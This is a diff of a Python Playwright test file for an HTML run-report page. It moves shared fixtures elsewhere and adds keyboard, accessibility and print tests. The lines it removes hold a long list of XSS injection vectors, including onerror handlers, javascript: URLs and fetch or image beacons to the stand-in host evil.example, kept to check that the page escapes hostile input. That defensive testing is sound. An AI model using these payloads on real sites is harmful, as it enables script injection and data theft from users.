@@ -2,11 +2,9 @@
 
 from __future__ import annotations
 
-import itertools
-import shutil
 import time
 from collections.abc import Callable, Iterator
-from dataclasses import dataclass, field, replace
+from dataclasses import replace
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
@@ -15,112 +13,17 @@ import pytest
 from shouldtune.report.page import to_html
 from shouldtune.run import RunRecord
 from shouldtune.types import Completion, Example, Measurement, Prediction, Score
-from tests.report_worlds import LADDER, a_yes, ladder_record, nothing_applied, poisoned
+from tests.browser.conftest import PRESS_J, Seen, faults
+from tests.hostile import POISON
+from tests.report_worlds import LADDER, a_yes, everything, ladder_record, nothing_applied, poisoned
 
 if TYPE_CHECKING:
     from playwright.sync_api import Browser, Page
 
 pytestmark = pytest.mark.browser
 
-CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
-QUIET = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
-
-ACTS = (
-    "alert(1)",
-    "window.pwned=1",
-    "fetch('http://evil.example/')",
-    "document.title='pwned'",
-    "new Image().src='//evil.example'",
-)
-VECTORS = (
-    "<script>{}</script>",
-    "</script><script>{}</script>",
-    "</ScRiPt ><sCrIpT>{}</sCrIpT>",
-    "<!--<script>{}</script>",
-    "<![CDATA[<script>{}</script>]]>",
-    "<img src=x onerror={}>",
-    '"><img src=x onerror="{}">',
-    "'><img src=x onerror='{}'>",
-    "<svg onload={}>",
-    "<svg><script>{}</script></svg>",
-    "<svg><animate onbegin={} attributeName=x dur=1s>",
-    "<svg><use href='data:image/svg+xml,<svg onload={}>'/></svg>",
-    "<math><mtext><img src=x onerror={}></mtext></math>",
-    "<body onload={}>",
-    "<input autofocus onfocus={}>",
-    "<details open ontoggle={}>",
-    "<video><source onerror={}></video>",
-    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
-    "<iframe src='javascript:{}'></iframe>",
-    "<object data='javascript:{}'></object>",
-    "<embed src='javascript:{}'>",
-    "<a href='javascript:{}' autofocus onfocus={}>x</a>",
-    "<form action='javascript:{}'><button autofocus onfocus={}>x</button></form>",
-    "<base href='//evil.example/'><script src=x></script>",
-    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
-    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
-    "<link rel=stylesheet href='http://evil.example/{}'>",
-    "<style>@import 'http://evil.example/{}';</style>",
-    "</style><style>*{{background:url(http://evil.example/)}}</style>",
-    "<div style='background:url(http://evil.example/)' onmouseover={}>",
-    "<img src='http://evil.example/{}'>",
-    "<img srcset='http://evil.example/ 1x'>",
-    "![x](http://evil.example/{})",
-    "</title><script>{}</script>",
-    "</textarea><script>{}</script>",
-    "</noscript><img src=x onerror={}>",
-    "<template><script>{}</script></template>",
-    "<marquee onstart={}>",
-    "<x contenteditable onblur={}>",
-    "' onmouseover='{}' '",
-    '" autofocus onfocus="{}" "',
-    "\u2028{}\u2029",
-    "\\u003cscript>{}</script>",
-    "&lt;script&gt;{}&lt;/script&gt;",
-    "&#60;script&#62;{}",
-    "${{{}}}",
-    "{{{{constructor.constructor('{}')()}}}}",
-    "__proto__",
-    "<scr\0ipt>{}</script>",
-    "<script\x0c>{}</script>",
-    "<img/src/onerror={}>",
-    "<<script>{}//<</script>",
-)
-AROUND = ("{}", "x {} y", '"{}"', "`{}`", "\n{}\n", "</p>{}", "-->{}")
-POISON = tuple(
-    dict.fromkeys(
-        around.format(vector.replace("{}", act).replace("{{", "{").replace("}}", "}"))
-        for vector, act, around in itertools.product(VECTORS, ACTS, AROUND)
-    )
-)
-
-
-@dataclass
-class Seen:
-    """What a page did that it must not do."""
-
-    requests: list[str] = field(default_factory=list)
-    said: list[str] = field(default_factory=list)
-
-
-PRESS_J = """(times) => {
-    const press = () => document.body.dispatchEvent(new KeyboardEvent('keydown', { key: 'j', bubbles: true }));
-    for (let i = 0; i < times; i++) press();
-}"""
-
 Opened = tuple["Page", Seen]
 Open = Callable[..., Opened]
-
-
-@pytest.fixture(scope="module")
-def chromium() -> Iterator[Browser]:
-    sync = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: pip install playwright")
-    if CHROMIUM is None:
-        pytest.skip("no Chromium on this machine: apt-get install chromium")
-    with sync.sync_playwright() as started:
-        browser = started.chromium.launch(executable_path=CHROMIUM, args=QUIET)
-        yield browser
-        browser.close()
 
 
 @pytest.fixture
@@ -132,11 +35,8 @@ def open_page(chromium: Browser, tmp_path: Path) -> Iterator[Open]:
         path.write_bytes(to_html(record).encode("utf-8"))
         context = chromium.new_context(**{"viewport": {"width": 1280, "height": 900}, **options})
         contexts.append(context)
-        page, seen = context.new_page(), Seen()
-        page.on("request", lambda request: seen.requests.append(request.url))
-        page.on("console", lambda message: seen.said.append(message.text))
-        page.on("pageerror", lambda error: seen.said.append(str(error)))
-        page.on("dialog", lambda dialog: (seen.said.append(f"dialog {dialog.message}"), dialog.dismiss()))
+        page = context.new_page()
+        seen = Seen().watch(page)
         page.goto(path.as_uri())
         return page, seen
 
@@ -243,6 +143,23 @@ def test_the_keyboard_alone_is_enough(open_page: Open) -> None:
     assert page.evaluate("document.activeElement.id") != "search"
 
 
+def test_digits_choose_what_is_shown_and_a_question_mark_says_which_keys_there_are(open_page: Open) -> None:
+    page, seen = open_page(a_yes(Path("run")))
+    for key, value in (("2", "fixed"), ("4", "disagree"), ("5", "failed"), ("1", "all")):
+        page.keyboard.press(key)
+        assert page.is_checked(f"input[value={value}]")
+    assert not page.locator("#keys li").first.is_visible()
+    page.keyboard.press("?")
+    assert set(page.locator("#keys li kbd").all_inner_texts()) == {"j", "k", "←", "→", "1–6", "/", "Enter", "Esc", "?"}
+    page.keyboard.press("Escape")
+    assert not page.locator("#keys li").first.is_visible()
+    page.keyboard.press("/")
+    page.keyboard.type("2?")
+    assert page.input_value("#search") == "2?"
+    assert page.is_checked("input[value=all]")
+    assert seen.said == []
+
+
 def test_j_goes_on_over_the_end_of_a_page(open_page: Open) -> None:
     page, _ = open_page(a_yes(Path("run")))
     for _ in range(27):
@@ -326,6 +243,27 @@ def test_chart_text_can_be_read_in_both_schemes(open_page: Open, scheme: str) ->
         }"""
     )
     assert worst >= 4.5
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [390, 1440])
+def test_nothing_bars_the_way_for_those_who_see_or_move_otherwise(open_page: Open, scheme: str, width: int) -> None:
+    options = {"color_scheme": scheme, "viewport": {"width": width, "height": 900}, "bypass_csp": True}
+    page, _ = open_page(everything(Path("run")), **options)
+    page.keyboard.press("j")
+    page.keyboard.press("?")
+    page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
+    assert faults(page) == []
+
+
+def test_the_printed_page_holds_the_answer_and_every_chart_in_ink(open_page: Open) -> None:
+    page, _ = open_page(everything(Path("run")), color_scheme="dark")
+    page.emulate_media(media="print")
+    assert page.locator("h1").is_visible()
+    assert page.locator("svg.wide").evaluate_all("all => all.every((each) => each.getBoundingClientRect().width > 100)")
+    assert page.evaluate("getComputedStyle(document.body).color") == "rgb(0, 0, 0)"
+    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
+    assert not page.locator("nav").is_visible()
 
 
 # ---------------------------------------------------------------- quick
